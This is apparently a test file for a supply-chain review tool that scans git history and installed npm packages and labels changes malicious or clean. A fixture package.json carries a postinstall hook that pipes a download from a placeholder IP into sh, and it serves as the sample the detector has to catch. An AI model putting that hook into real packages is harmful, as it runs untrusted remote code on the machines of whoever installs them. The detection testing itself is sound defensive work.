import { appendFileSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, expect, test } from "vitest";
import { measureHistory, measurePackages, mirrorOf } from "../../script/eval/honest.ts";
import { openNotebook, tableOf } from "../../script/eval/measured.ts";
import { type Knowledge, loadKnowledge } from "../../src/review/knowledge.ts";
import { ROOT } from "../architecture/sources.ts";
import { commitFiles, emptyRepository, scratchFolder } from "../git/scratch.ts";

let knowledge: Knowledge;
beforeAll(async () => {
  knowledge = await loadKnowledge(ROOT);
});

const ATTACK = JSON.stringify({
  name: "x",
  scripts: { postinstall: "curl -s http://198.51.100.7/a | sh" },
});

function repositoryOfTwoChanges() {
  const folder = emptyRepository();
  commitFiles(folder, { "README.md": "A library.\n" }, "Begin");
  const honest = commitFiles(folder, { "src/add.js": "export const add = (a, b) => a + b;\n" });
  const attack = commitFiles(folder, { "package.json": ATTACK });
  return { folder, honest, attack };
}

function measuringInto(file: string | null) {
  const said: string[] = [];
  const say = (line: string) => void said.push(line);
  return { measuring: { knowledge, notebook: openNotebook(file), say }, said };
}

test("every merged change is reviewed, and one that is not clean is told with its rule and place", async () => {
  const { folder, honest, attack } = repositoryOfTwoChanges();
  const { measuring, said } = measuringInto(null);
  const span = { history: "own/own", mirror: folder, last: 10, every: 1 };
  const measured = await measureHistory(measuring, span);
  expect(measured.map(({ change, ending }) => [change, ending])).toEqual([
    [attack.slice(0, 10), "malicious"],
    [honest.slice(0, 10), "clean"],
  ]);
  expect(said[0]).toBe(`own/own ${attack.slice(0, 10)}  malicious`);
  expect(said.slice(1).join("\n")).toMatch(/^ {4}[a-z]+\/[a-z-]+ +package\.json:1 +\S/);
  expect(tableOf(measured).split("\n")[1]).toMatch(/^own\/own +2 +1 +0 +0 +\d+\.\d\d$/);
});

test("a wider stride leaves changes out, the newest stays", async () => {
  const { folder, attack } = repositoryOfTwoChanges();
  const { measuring } = measuringInto(null);
  const span = { history: "own/own", mirror: folder, last: 10, every: 2 };
  const measured = await measureHistory(measuring, span);
  expect(measured.map(({ change }) => change)).toEqual([attack.slice(0, 10)]);
});

test("a run goes on where a stopped one was, and half a line is measured again", async () => {
  const { folder } = repositoryOfTwoChanges();
  const file = join(scratchFolder(), "notes", "honest.jsonl");
  const span = { history: "own/own", mirror: folder, last: 10, every: 1 };
  await measureHistory(measuringInto(file).measuring, span);
  const [first = "", second = ""] = readFileSync(file, "utf8").split("\n");
  writeFileSync(file, `${first.replace('"malicious"', '"suspicious"')}\n`);
  appendFileSync(file, second.slice(0, 30));
  const measured = await measureHistory(measuringInto(file).measuring, span);
  expect(measured.map(({ ending }) => ending)).toEqual(["suspicious", "clean"]);
  const changes = measured.map(({ change }) => change);
  const kept = openNotebook(file);
  expect(changes.map((change) => kept.find("own/own", change))).toEqual(measured);
});

test("what cannot be reviewed is a fault that is told, not a clean change", async () => {
  const { folder } = repositoryOfTwoChanges();
  const { measuring, said } = measuringInto(null);
  // Knowledge that no loader would answer: any fault inside of a review serves here.
  const broken = { ...knowledge, rules: null as unknown as Knowledge["rules"] };
  const span = { history: "own/own", mirror: folder, last: 1, every: 1 };
  const measured = await measureHistory({ ...measuring, knowledge: broken }, span);
  expect(measured.map(({ ending, complete }) => [ending, complete])).toEqual([["failed", false]]);
  expect(said).toHaveLength(2);
  expect(tableOf(measured).split("\n")[1]).toMatch(/^own\/own +0 /);
});

test("installed packages are reviewed as added files, those of a scope too", async () => {
  const folder = emptyRepository();
  commitFiles(folder, {
    "plain/package.json": '{"name":"plain"}',
    "@scope/inner/package.json": ATTACK,
    "no-package/readme.txt": "nothing",
  });
  const measured = await measurePackages(measuringInto(null).measuring, folder);
  expect(measured.map(({ change, ending }) => [change, ending])).toEqual([
    ["@scope/inner", "malicious"],
    ["plain", "clean"],
  ]);
});

test("a mirror is found under the folder of mirrors, and a missing one is known", () => {
  const folder = scratchFolder();
  expect(mirrorOf(folder, "own/own")).toBeNull();
  mkdirSync(join(folder, "own+own", "repo"), { recursive: true });
  writeFileSync(join(folder, "own+own", "repo", "HEAD"), "ref: refs/heads/main\n");
  expect(mirrorOf(folder, "own/own")).toBe(join(folder, "own+own", "repo"));
});
